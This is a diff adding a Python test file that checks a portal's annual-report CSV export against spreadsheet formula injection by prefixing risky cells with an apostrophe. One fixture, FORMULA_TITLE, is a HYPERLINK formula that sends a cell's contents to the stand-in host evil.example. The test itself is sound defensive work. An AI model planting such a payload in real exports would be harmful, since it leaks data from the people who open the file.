@@ -1,0 +1,48 @@
+"""The annual report's CSV is safe to open in a spreadsheet: a cell that would run as a formula (a year-on-year change
+like +7, a promise title the Role Model Army typed starting with =) starts with an apostrophe, as the case export's
+cells do, through the one helper both use (portal.csv_safe)."""
+
+import csv
+import io
+
+from portal.csv_safe import safe_cell
+from tests.pledge.conftest import build_draft, sign_off_and_publish
+
+FORMULA_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Help you learn")'
+
+
+def report_cells(runner, tmp_path):
+    """{(table, row label, column): value} of the 2025-26 report's CSV, as written."""
+    result = runner.invoke(args=["annual-report", "2025-26", "--format", "csv", "--output", str(tmp_path / "r.csv")])
+    assert result.exit_code == 0, result.output
+    lines = list(csv.reader(io.StringIO((tmp_path / "r.csv").read_text(encoding="utf-8"))))
+    return {(table, row, column): value for _section, table, row, column, value in lines[2:]}
+
+
+def test_report_csv_neutralises_a_formula_title_and_a_signed_change(known_year, build, runner, tmp_path):
+    promises = [("A good education", FORMULA_TITLE, "We will help you learn at school.", "We help you at school.")]
+    build(lambda people: sign_off_and_publish(build_draft(people, promises=promises)[0], people))
+
+    cells = report_cells(runner, tmp_path)
+
+    # 12 complaints this year, 5 last year: the change is +7, written so a spreadsheet shows it and runs nothing.
+    assert cells[("The year at a glance", "Complaints", "Change")] == "'+7"
+    citing = [row for table, row, _column in cells if table == "Complaints citing each promise of the Pledge"]
+    assert citing == ["'" + FORMULA_TITLE]
+    # No cell anywhere in the file starts as a formula would.
+    assert not [key for key, value in cells.items() if value[:1] in ("=", "+", "-", "@")]
+    assert not [key for key in cells for part in key if part[:1] in ("=", "+", "-", "@")]
+
+
+def test_one_helper_makes_cells_safe_for_both_csvs():
+    assert [safe_cell(v) for v in ("+8", "-6", "=1+1", "@SUM(A1)", "\tx", "8", "no change", 3, None)] == [
+        "'+8",
+        "'-6",
+        "'=1+1",
+        "'@SUM(A1)",
+        "'\tx",
+        "8",
+        "no change",
+        3,
+        None,
+    ]
